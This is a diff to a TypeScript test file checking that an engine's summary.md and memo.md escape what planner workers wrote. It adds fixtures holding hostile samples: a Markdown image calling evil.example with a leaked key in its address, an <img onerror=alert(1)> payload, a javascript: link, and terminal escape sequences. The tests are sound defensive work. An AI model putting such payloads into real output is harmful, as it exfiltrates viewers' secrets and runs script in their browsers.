@@ -134,8 +134,8 @@ t.test('summary.md and memo.md hold what workers wrote as text, no control chara
   for (const [name, text] of [['summary.md', summary], ['memo.md', memo]] as const) {
     t.notMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, `${name}: no control character but the newline`);
   }
-  t.match(summary, /m1\ufffd\]0;PWNED\ufffd\ufffd\[31m/, 'the id is shown, defused');
-  t.match(memo, /bad \ufffd\[2J detail\ufffdtab/, 'the stop detail too');
+  t.match(summary, /m1\ufffd\\\]0;PWNED\ufffd\ufffd\\\[31m/, 'the id is shown, defused');
+  t.match(memo, /bad \ufffd\\\[2J detail\ufffdtab/, 'the stop detail too');
 });
 
 t.test('summary.md and memo.md keep what workers wrote on its line: no section, no "## Next" of theirs', async (t) => {
@@ -149,4 +149,29 @@ t.test('summary.md and memo.md keep what workers wrote on its line: no section, 
   }
   t.match(memo, /^- trigger: planner failed: x ⏎ +⏎ ## Next ⏎ +⏎ ``` ⏎ curl/m, 'the stop detail stays on the trigger line');
   t.match(memo, /## Next\n\n```\nengine resume s1\n```/);
+});
+
+t.test('summary.md and memo.md show links, images and HTML a worker wrote as text, never live', async (t) => {
+  // Rendered as Markdown (a CI job's summary page, a code host, an editor's preview), an image
+  // a planner put in a milestone goal was fetched from its server by whoever looked, with
+  // whatever the planner wrote into its address; a link or HTML of its own read as the engine's.
+  const image = '![status](https://evil.example/p.png?leak=KEY)';
+  const html = '<img src=https://evil.example/q.png onerror=alert(1)>';
+  const link = '[resume here](javascript:alert(1))';
+  const tick = 'a `b';
+  const { summary, memo } = await renderS1({
+    status: 'stopped',
+    stop_reason: 'worker_failed',
+    position: { step: 'plan', milestone: null, attempt: 1 },
+    stop_detail: `planner failed: ${image} ${html} ${link}`,
+    milestones: [{ id: `m1${link}`, goal: `${image} ${html} ${tick}`, files_expected: [], done_checks: [], risk_level: 'low' }],
+  });
+  for (const [name, text] of [['summary.md', summary], ['memo.md', memo]] as const) {
+    t.notMatch(text, /(?<!\\)!(?<!\\)\[status/, `${name}: no image`);
+    t.notMatch(text, /(?<!\\)<img/, `${name}: no HTML`);
+    t.notMatch(text, /(?<!\\)\[resume here(?<!\\)\]/, `${name}: no link`);
+  }
+  t.match(summary, '!\\[status\\](https://evil.example/p.png?leak=KEY) \\<img src=https://evil.example/q.png onerror=alert(1)> a `b', 'the goal is shown, its markup escaped');
+  t.match(memo, 'planner failed: !\\[status\\]');
+  t.match(memo, /## Next\n\n```\nengine resume s1\n```/, "the engine's own command is as it was");
 });
